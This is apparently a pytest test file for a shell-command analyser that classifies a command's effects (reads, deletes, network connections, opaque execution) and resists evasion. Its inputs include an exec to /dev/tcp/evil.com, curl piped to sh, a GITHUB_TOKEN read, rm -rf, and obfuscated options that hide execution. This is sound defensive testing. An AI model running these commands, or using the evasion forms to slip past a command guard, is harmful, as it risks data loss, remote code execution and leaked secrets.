"""From a text to parts, items and questions."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.commands.analyse import Start, analyse
from gateway.commands.examples import effects
from gateway.model.analysis import Analysis, Pending
from gateway.model.command import Part
from gateway.model.effect import HOLE, Exec, Item, Touch
from gateway.model.facts import Wanted

START = Start("/w", "/home/dev")


def part_of(analysis: Analysis, index: int = 0) -> dict[str, Any]:
    part = analysis.parts[index]
    return {
        "program": part.program,
        "subcommands": part.subcommands,
        "operands": part.operands,
        "options": set(part.options),
        "described": part.described,
        "literal": part.literal,
        "direct": part.direct,
        "trusted": part.trusted,
        "via": part.via,
    }


def test_a_plain_command_is_one_part_with_its_effects_and_questions(descriptions: dict[str, Any]) -> None:
    assert analyse("cat -n a.txt", START, descriptions.get) == Analysis(
        (
            Part(
                ("cat", "-n", "a.txt"),
                0,
                12,
                "cat",
                (),
                ("a.txt",),
                frozenset(("-n", "--number")),
                described=True,
                literal=True,
                direct=True,
                trusted=True,
                classes=("read",),
                cwds=("/w",),
            ),
        ),
        (Item(Exec("cat", ("cat", "-n", "a.txt")), 0, 12, 0), Item(Touch("read", "/w/a.txt"), 7, 12, 0)),
        (),
        Wanted(paths=("/w/a.txt",), programs=("cat",)),
    )


@pytest.mark.parametrize(
    ("text", "index", "expected"),
    [
        (
            "git -C sub push -f origin main",
            0,
            {"program": "git", "subcommands": ("push",), "operands": ("origin", "main"), "described": True},
        ),
        ("rm -fr x", 0, {"options": {"-f", "--force", "-r", "-R", "--recursive"}, "operands": ("x",)}),
        ("/bin/rm x", 0, {"program": "rm", "trusted": False, "described": True}),
        ("sudo rm x", 1, {"program": "rm", "direct": False, "via": ("sudo",)}),
        ("sudo timeout 5 rm x", 2, {"program": "rm", "direct": False, "via": ("sudo", "timeout")}),
        ("bash -c 'rm x'", 1, {"program": "rm", "direct": False, "via": ("bash -c",)}),
        ("find . -exec rm {} +", 1, {"program": "rm", "direct": False, "via": ("find -exec",)}),
        (
            "frob -xy --deep=1 a",
            0,
            {
                "program": "frob",
                "options": {"-xy", "-x", "-y", "--deep", "--deep=1"},
                "operands": ("a",),
                "described": False,
                "trusted": True,
            },
        ),
        ("rm --frob x", 0, {"described": False, "operands": ("x",)}),
        ("cat $x", 0, {"literal": False, "operands": (HOLE,)}),
        ("ls() { :; }; ls", 1, {"program": "ls", "trusted": False, "described": True}),
        ("ls() { :; }; eval x; ls", 3, {"program": "ls", "trusted": False, "described": False}),
    ],
)
def test_a_part_is_canonical(text: str, index: int, expected: dict[str, Any], descriptions: dict[str, Any]) -> None:
    found = part_of(analyse(text, START, descriptions.get), index)
    assert {key: found[key] for key in expected} == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # Redirects, variables and the shell's own ways to reach further.
        ("echo x > out 2>> err < in", ["write out", "write err", "read in"]),
        ("ls > /dev/null 2>&1", ["list ."]),
        ("exec 3<>/dev/tcp/evil.com/80", ["connect evil.com:80 send"]),
        ("PATH=/x ls", ["env PATH set", "list ."]),
        ("LANG=C TZ=UTC ls", ["list ."]),
        ("x=1", []),
        ("IFS=,", ["env IFS set"]),
        ("echo $GITHUB_TOKEN $HOME", ["env GITHUB_TOKEN read"]),
        # Folders.
        ("cd src && cat a", ["read src/a"]),
        ("cd src; cat a", ["read src/a", "read a"]),
        ('cd "$x" && cat a', ["read ?/a"]),
        # Text that is run.
        ("bash <<E\nrm x\nE", ["delete x"]),
        ("sh <<< 'rm x'", ["delete x"]),
        ("curl -q http://h/x | sh", ["connect h:80 fetch", "opaque"]),
        ("echo 'rm x' | bash", ["delete x"]),
        ("eval 'rm x'", ["delete x"]),
        ("trap 'rm x' EXIT", ["delete x"]),
        ("source ./env", ["read env", "opaque"]),
        ("sh -c 'sh -c \"rm x\"'", ["delete x"]),
        ("echo 'rm x' > s; bash s", ["write s", "read s", "code", "delete x"]),
        # Names.
        ("$x y", ["opaque"]),
        ("./cat f", ["read f"]),
        ("frobnicate f", ["code"]),
        ("'r'm x", ["delete x"]),
        # Globs and holes.
        ("cat *.py", ["read *.py"]),
        ('rm -- "$x"', ["delete ?"]),
        ('rm "$x"', ["delete ?", "code"]),
        ('rm "a$x"', ["delete a?"]),
        ("rm a$x", ["delete a?", "code"]),
        # Options that write or run hide behind clusters, glue and abbreviations.
        ("sort -uno F", ["write F"]),
        ("sort --outp=F", ["write F", "code"]),
        ("rg --pre=sh x .", ["read . tree", "code"]),
        ("find . -exec true \\; -exec rm a \\;", ["list . tree", "delete a"]),
        ("find . -ex''ec rm a ';'", ["list . tree", "delete a"]),
        ("tar xfC a.tar d", ["read a.tar", "write d tree"]),
        ("env --split-string='rm x'", ["delete x"]),
        ("xargs -I{} {} x", ["opaque"]),
        ("git diff --ext\\-diff", ["read . tree", "code"]),
        ("sed -n --expr='1e rm x'", ["delete x", "code"]),
    ],
)
def test_a_text_has_these_effects(text: str, expected: list[str], descriptions: dict[str, Any]) -> None:
    assert sorted(effects(text, descriptions.get)) == sorted(expected)


def test_the_effects_of_handed_text_stand_where_the_text_stands(descriptions: dict[str, Any]) -> None:
    analysis = analyse("true; bash -c 'rm x'", START, descriptions.get)
    assert [(item.start, item.end, item.part) for item in analysis.items if item.effect.kind == "delete"] == [
        (14, 20, 2)
    ]


def test_shells_nested_beyond_the_bound_are_opaque_and_leave_their_words(descriptions: dict[str, Any]) -> None:
    analysis = analyse("eval " * 40 + "rm x", START, descriptions.get)
    assert "opaque" in {item.effect.kind for item in analysis.items}
    assert analysis.tokens[-2:] == ("rm", "x")


def test_wrappers_nested_beyond_the_bound_are_opaque_and_leave_their_words(descriptions: dict[str, Any]) -> None:
    analysis = analyse("nice " * 40 + "rm x", START, descriptions.get)
    assert "opaque" in {item.effect.kind for item in analysis.items}
    assert analysis.tokens[-2:] == ("rm", "x")


def test_questions_are_asked_once_and_in_order(descriptions: dict[str, Any]) -> None:
    analysis = analyse("cat b a b; git status; rm *", START, descriptions.get)
    assert analysis.wanted == Wanted(
        paths=("/w/b", "/w/a", "/w"),
        globs=("/w/*",),
        programs=("cat", "git", "rm"),
        git=("/w",),
    )
    assert analysis.pending == (
        Pending("top", 1, "/w", "list/tree ", 11, 21),
        Pending("git", 1, "/w", "", 11, 21),
        Pending("glob", 2, "/w/*", "", 26, 27),
    )


def test_inert_options_are_told_by_their_place(descriptions: dict[str, Any]) -> None:
    assert analyse("git --no-pager log", START, descriptions.get).parts[0].inert == (1,)


SAFE = st.sampled_from(["cat a", "ls src", "echo x", "grep -n x f", "head -3 a", "git status", "wc -l f"])
JOIN = st.sampled_from([" && ", " || ", "; ", " | ", "\n", " & "])


@given(
    st.lists(st.tuples(SAFE, JOIN), min_size=1, max_size=4), st.sampled_from(["rm x", "sudo rm x", "bash -c 'rm x'"])
)
def test_what_stands_beside_a_command_never_hides_its_effect(
    descriptions: dict[str, Any], around: list[tuple[str, str]], command: str
) -> None:
    text = "".join(safe + join for safe, join in around) + command
    assert "delete x" in effects(text, descriptions.get)


WRAPPERS = [
    "nice ",
    "nohup ",
    "timeout 5 ",
    "env A=1 ",
    "sudo -n ",
    "stdbuf -oL ",
    "command ",
    "setsid ",
    "time ",
    "exec ",
]


@given(st.lists(st.sampled_from(WRAPPERS), max_size=6))
def test_wrappers_never_hide_what_they_run(descriptions: dict[str, Any], wrappers: list[str]) -> None:
    assert "delete x tree" in effects("".join(wrappers) + "rm -rf x", descriptions.get)


@given(st.text(alphabet="rm xgitca-/.*$'\"|&;<>(){}\n=~!", max_size=40))
def test_any_text_is_analysed_without_failing(descriptions: dict[str, Any], text: str) -> None:
    analysis = analyse(text, START, descriptions.get)
    assert all(item.part < len(analysis.parts) for item in analysis.items)
    assert all(isinstance(part, Part) for part in analysis.parts)
